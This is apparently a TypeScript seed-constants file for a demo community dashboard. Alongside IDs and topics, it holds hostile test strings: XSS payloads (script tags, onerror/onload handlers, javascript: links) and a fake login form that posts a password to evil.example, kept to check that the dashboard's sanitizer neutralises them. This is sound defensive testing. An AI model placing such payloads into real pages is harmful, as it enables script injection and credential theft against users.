/**
 * The fixed facts of the demo community that the dashboard, the e2e tests and people rely
 * on. Everything else is generated from the seed.
 */
export const DEFAULT_SEED = 20261120;
export const DEFAULT_USERS = 300;
export const DEFAULT_POSTS = 360;

/**
 * Dates are not fixed: the data ends at the seed's anchor (anchor.ts; by default the moment
 * of seeding, SEED_ANCHOR or --anchor to reproduce one) and reaches back about eight months
 * (timeline.ts), the anchor being stored in the option below.
 */
export const ANCHOR_OPTION = 'community_desk_demo_anchor';

export const ADMIN_LOGIN = 'admin';
export const MEMBER_LOGIN = 'member';

export const SPACE_IDS = {
  general: 1,
  announcements: 2,
  designClub: 3,
  engineering: 4,
  staffRoom: 5,
} as const;

export const COURSE_IDS = {
  figma: 6,
  typescript: 7,
  accessibility: 8,
} as const;

/** design-club: 12 pending requests from active profiles, 2 more from non-active ones. */
export const DESIGN_CLUB_PENDING_ACTIVE = 12;
export const DESIGN_CLUB_PENDING_HIDDEN = 2;

export const TOPICS = [
  { id: 1, slug: 'questions', title: 'Questions', description: 'Ask the community.' },
  { id: 2, slug: 'announcements', title: 'Announcements', description: 'News and updates.' },
  { id: 3, slug: 'showcase', title: 'Showcase', description: 'Show what you made.' },
  { id: 4, slug: 'help', title: 'Help', description: 'Stuck? Ask here.' },
  { id: 5, slug: 'feedback', title: 'Feedback', description: 'Ideas and critique.' },
] as const;

/** The hostile strings every demo carries, so the dashboard is always tested against them. */
export const HOSTILE = {
  displayName: 'Mallory <img src=x onerror=alert(1)>',
  postTitle: 'Security test <script>alert("xss")</script>',
  /** 239 characters without a break opportunity. */
  longWord:
    'Supercalifragilisticexpialidocious'.repeat(4) +
    'Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch' +
    'Pneumonoultramicroscopicsilicovolcanoconiosis',
  arabicName: 'ليلى حداد',
  hebrewName: 'נועה כהן',
} as const;

/** The raw HTML of the hostile post: the dashboard's sanitizer must neutralise all of it. */
export const HOSTILE_POST_HTML = [
  '<p>Security test: everything below must be neutralised by the client.</p>',
  '<script>alert("xss")</script>',
  '<p><a href="javascript:alert(1)">Click me for a prize</a></p>',
  '<svg onload=alert(1)><circle r="10"></circle></svg>',
  '<p><img src=x onerror=alert(1)> broken image with a handler</p>',
  '<iframe src="https://evil.example/embed" width="400" height="300"></iframe>',
  '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Log in again</button></form>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">Overlay attempt</p>',
].join('\n');
